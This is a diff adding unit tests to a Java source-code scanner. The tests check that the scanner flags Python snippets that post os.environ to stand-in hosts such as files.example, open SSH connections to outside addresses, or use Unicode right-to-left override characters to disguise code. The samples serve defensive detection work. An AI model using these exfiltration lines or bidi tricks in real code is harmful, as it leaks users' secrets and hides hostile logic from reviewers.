@@ -120,4 +120,59 @@ class CodeScanTest {
         assertThat(CodeRole.of("demo/mail", false)).isEqualTo(CodeRole.SCRIPT);
         assertThat(CodeRole.of("demo/mail.py", true)).isEqualTo(CodeRole.MODULE);
     }
+
+    @Test
+    void whatGoesToThisMachineIsNotSentAway() {
+        String connects = """
+                import os, paramiko
+                proxy = %s
+                client = paramiko.SSHClient()
+                client.connect(%s, username=os.getenv("USER"), sock=proxy)
+                """;
+        assertThat(scan(CodeRole.PACKAGE, connects.formatted("None", "'127.0.0.1'"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.NETWORK_USED)
+                .doesNotContain(Signal.HOST_SENT);
+        for (String away : List.of("'127.0.0.1.files.example'", "'203.0.113.7'", "'localhost' + os.sep")) {
+            assertThat(scan(CodeRole.PACKAGE, connects.formatted("None", away)).findings())
+                    .as(away)
+                    .extracting(CodeFinding::kind)
+                    .contains(Signal.HOST_SENT);
+        }
+        assertThat(scan(CodeRole.PACKAGE, connects.formatted("paramiko.ProxyCommand('x')", "'127.0.0.1'"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.HOST_SENT);
+        String posts = "import os, requests\nrequests.post(%s, data=dict(os.environ))\n";
+        assertThat(scan(CodeRole.PACKAGE, posts.formatted("'http://localhost:8000/x'"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.ENVIRONMENT_SENT);
+        for (String away : List.of(
+                "'http://localhost@files.example/'",
+                "'http://127.0.0.1:80@files.example/'",
+                "'http://localhost/', proxies={'http': 'http://files.example'}",
+                "'http://localhost/', **options")) {
+            assertThat(scan(CodeRole.PACKAGE, posts.formatted(away)).findings())
+                    .as(away)
+                    .extracting(CodeFinding::kind)
+                    .contains(Signal.ENVIRONMENT_SENT);
+        }
+    }
+
+    @Test
+    void anOverrideReordersOnlyWhatComesAfterIt() {
+        String line = "import os\nRTL = \"%s\"%s\nos.system('')\n";
+        assertThat(scan(CodeRole.MODULE, line.formatted("\u202e", "")).findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.BIDIRECTIONAL);
+        assertThat(scan(CodeRole.MODULE, line.formatted("\u202e", " and admin")).findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.BIDIRECTIONAL);
+        assertThat(scan(CodeRole.MODULE, line.formatted("x\u202e", "  # a comment"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.BIDIRECTIONAL);
+    }
 }
